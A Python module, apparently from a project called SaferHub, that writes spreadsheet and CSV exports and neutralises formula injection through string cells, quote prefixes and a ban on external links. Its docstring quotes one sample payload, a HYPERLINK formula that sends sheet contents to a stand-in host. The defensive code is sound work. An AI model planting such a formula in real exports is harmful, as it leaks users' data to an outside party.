"""The one way SaferHub writes spreadsheets and CSV files: text in them never runs.

A spreadsheet program runs a cell as a formula when its text starts with `=`, `+`, `-` or `@`
(and, after a CSV import, with a tab or carriage return before one of those). A name such as
`=HYPERLINK("http://x/?"&A1,"click")` would then send the sheet's contents away when clicked.
Names, notes and other free text come from users and partner extracts, so every export
writes through here (a test scans the source tree to keep it that way):

- XLSX (openpyxl): text is always stored as a string cell, never as a formula. openpyxl takes
  any `str` starting with "=" as a formula, so the type is set after the value. Text that
  would otherwise run also gets Excel's "quote prefix" style, so editing the cell and
  pressing Enter keeps it text.
- CSV: text starting with one of those characters is prefixed with a single quote, as OWASP's
  CSV injection guidance advises; the csv module quotes whatever needs quoting.

Numbers stay numbers in both, so people can still add them up.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime
from pathlib import Path
from typing import IO

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.worksheet import Worksheet
from openpyxl.writer.excel import ExcelWriter

# The characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

Value = str | int | float | date | datetime | None


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would run `text` as a formula if it were typed in."""
    return text.startswith(FORMULA_TRIGGERS)


def csv_field(value: object) -> object:
    """A value safe to put in a CSV field: formula-like text gets a leading single quote.

    Carriage returns become line feeds: the csv module quotes a field holding "\n" but not
    one holding a lone "\r", which many readers would take as the end of the row.
    """
    if not isinstance(value, str):
        return value
    text = "'" + value if is_formula_like(value) else value
    return text.replace("\r\n", "\n").replace("\r", "\n")


def put(sheet: Worksheet, row: int, column: int, value: Value) -> Cell:
    """Write `value` into a cell; text is always a string cell, whatever it starts with."""
    cell = sheet.cell(row=row, column=column)
    if isinstance(value, str):
        # Control characters other than tab and line breaks are not allowed in the file format;
        # openpyxl would raise, so a stray one in a name would stop the whole export.
        text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
        cell.value = text
        cell.data_type = "s"
        if is_formula_like(text):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def put_sheet_link(sheet: Worksheet, row: int, column: int, text: str, target: str) -> Cell:
    """Write `text` as a link to cell A1 of the workbook's sheet named `target`.

    Only a place inside the workbook: the link has no address to open, so it can send
    nothing anywhere, and the target must be one of the workbook's own sheets.
    """
    if target not in sheet.parent.sheetnames:
        raise ValueError(f"No sheet named {target!r} to link to.")
    # The link style first: a named style resets the quote prefix `put` may set.
    sheet.cell(row=row, column=column).style = "Hyperlink"
    cell = put(sheet, row, column, text)
    quoted = target.replace("'", "''")
    cell.hyperlink = Hyperlink(ref=cell.coordinate, location=f"'{quoted}'!A1", display=text)
    return cell


def append(sheet: Worksheet, values: Sequence[Value]) -> int:
    """Write `values` as the next row of `sheet`, like `Worksheet.append`; returns the row."""
    started = sheet.max_row > 1 or any(cell.value is not None for cell in sheet[1])
    row = sheet.max_row + 1 if started else 1
    for column, value in enumerate(values, start=1):
        put(sheet, row, column, value)
    return row


def new_workbook(first_sheet: str | None = None) -> Workbook:
    """A new workbook for writing through `put` and `append`."""
    workbook = Workbook()
    if first_sheet:
        workbook.active.title = first_sheet
    return workbook


def workbook_bytes(workbook: Workbook, *, fixed_time: datetime | None = None) -> bytes:
    """The workbook as .xlsx bytes, after checking that no cell holds a formula.

    With `fixed_time`, every timestamp in the file is that time, so the same content gives
    the same bytes (`Workbook.save` would stamp the current time as "modified").
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                link = cell.hyperlink
                if link is not None and (link.target or link.id):
                    raise ValueError(
                        f"Cell {sheet.title}!{cell.coordinate} links outside the workbook; "
                        "link only to its own sheets (safe_cells.put_sheet_link)."
                    )
                if cell.data_type == "f":
                    raise ValueError(
                        f"Cell {sheet.title}!{cell.coordinate} holds a formula; "
                        "write values with saferhub.reports.safe_cells.put."
                    )
    buffer = io.BytesIO()
    if fixed_time is None:
        workbook.save(buffer)
        return buffer.getvalue()
    workbook.properties.created = fixed_time
    workbook.properties.modified = fixed_time
    archive = zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, allowZip64=True)
    ExcelWriter(workbook, archive).save()
    return repack_zip(buffer.getvalue(), fixed_time)


def repack_zip(data: bytes, timestamp: datetime) -> bytes:
    """Rewrite a zip with every entry dated `timestamp`, so the bytes don't depend on the clock."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            entry = zipfile.ZipInfo(info.filename, date_time=timestamp.timetuple()[:6])
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = info.external_attr
            target.writestr(entry, source.read(info.filename))
    return buffer.getvalue()


def write_csv_rows(
    handle: IO[str], fieldnames: Sequence[str], rows: Iterable[Mapping[str, object]]
) -> int:
    """Write a header and `rows` (dicts) as CSV to an open text handle; returns the row count."""
    writer = csv.DictWriter(handle, fieldnames=list(fieldnames), lineterminator="\n")
    writer.writerow({name: csv_field(name) for name in fieldnames})
    count = 0
    for row in rows:
        writer.writerow({key: csv_field(value) for key, value in row.items()})
        count += 1
    return count


def write_csv(path: Path, fieldnames: Sequence[str], rows: Iterable[Mapping[str, object]]) -> int:
    """Write a CSV file (UTF-8, "\\n" line ends) through `write_csv_rows`; returns the row count."""
    with Path(path).open("w", newline="", encoding="utf-8") as handle:
        return write_csv_rows(handle, fieldnames, rows)


__all__ = [
    "FORMULA_TRIGGERS",
    "XLSX_CONTENT_TYPE",
    "append",
    "csv_field",
    "is_formula_like",
    "new_workbook",
    "put",
    "put_sheet_link",
    "repack_zip",
    "workbook_bytes",
    "write_csv",
    "write_csv_rows",
]
